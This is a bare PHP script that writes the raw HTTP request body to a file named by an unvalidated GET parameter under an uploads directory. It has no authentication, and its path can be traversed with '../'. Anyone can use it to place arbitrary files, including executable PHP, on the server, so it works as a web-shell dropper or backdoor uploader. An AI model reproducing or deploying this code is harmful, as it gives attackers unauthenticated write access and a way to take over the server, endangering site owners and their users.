<?php
$dir = __DIR__ . '/uploads/';
$name = $_GET['n'] ?? 'index.html';
$fp = fopen($dir . $name, 'w');
fwrite($fp, file_get_contents('php://input'));
fclose($fp);
echo 'ok';
